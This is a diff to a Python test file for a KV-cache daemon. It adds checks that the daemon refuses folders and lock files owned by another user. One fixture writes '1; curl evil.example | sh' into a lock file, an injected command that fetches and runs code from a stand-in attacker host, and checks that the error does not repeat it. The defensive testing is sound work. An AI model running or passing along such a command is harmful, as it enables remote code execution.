@@ -1,7 +1,9 @@
-"""Other users of the host: a client gives KV to nobody who took the place of its daemon."""
+"""Other users of the host: a client gives KV to nobody who took the place of its daemon, and a
+daemon keeps none where another user could take it away."""
 
 from __future__ import annotations
 
+import fcntl
 import os
 import shutil
 import subprocess
@@ -16,7 +18,7 @@ import pytest
 import kvwarehouse as kvw
 from kvwarehouse.client import trust
 from kvwarehouse.client.connect import connect_grpc
-from kvwarehouse.testing.serving import Serving
+from kvwarehouse.testing.serving import RefusedError, Serving
 
 pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="only root can be several users")
 
@@ -141,3 +143,35 @@ def test_grpc_socket_is_reached_by_a_link(serving: Serving, folder: Path) -> Non
 def test_uid_that_is_none_is_refused(text: str, serving: Serving) -> None:
     with pytest.raises(kvw.UsageError, match="KVW_DAEMON_UID"):
         trust.daemon_uid({trust.VARIABLE: text})
+
+
+@pytest.mark.parametrize("setting", ["arena_dir", "nvme_dir", "socket"])
+def test_daemon_does_not_start_below_a_folder_of_another_user(
+    folder: Path, tmp_path: Path, setting: str
+) -> None:
+    """Incident: uid 1001 renamed the NVMe directory of root's running daemon."""
+    theirs = folder / "theirs"
+    theirs.mkdir()
+    os.chown(theirs, STRANGER, -1)
+    where = {"nvme_capacity": "64MiB", setting: str(theirs / "ours" / "it")}
+    with (
+        pytest.raises(RefusedError, match=f"{theirs} belongs to uid 1001"),
+        Serving(tmp_path, **where),
+    ):
+        pass
+    assert list(theirs.iterdir()) == []
+
+
+def test_daemon_is_told_from_a_lock_that_another_user_holds(folder: Path, tmp_path: Path) -> None:
+    """Incident: the text in such a lock became advice, `stop that one (kill 1; curl ...)`."""
+    lock = folder / "kvw.sock.lock"
+    with lock.open("w") as held:
+        held.write("1; curl evil.example | sh")
+        os.chown(lock, STRANGER, -1)
+        fcntl.flock(held, fcntl.LOCK_EX)
+        with (
+            pytest.raises(RefusedError, match=f"{lock} belongs to uid 1001") as caught,
+            Serving(tmp_path, socket=str(folder / "kvw.sock")),
+        ):
+            pass
+        assert "evil" not in caught.value.text
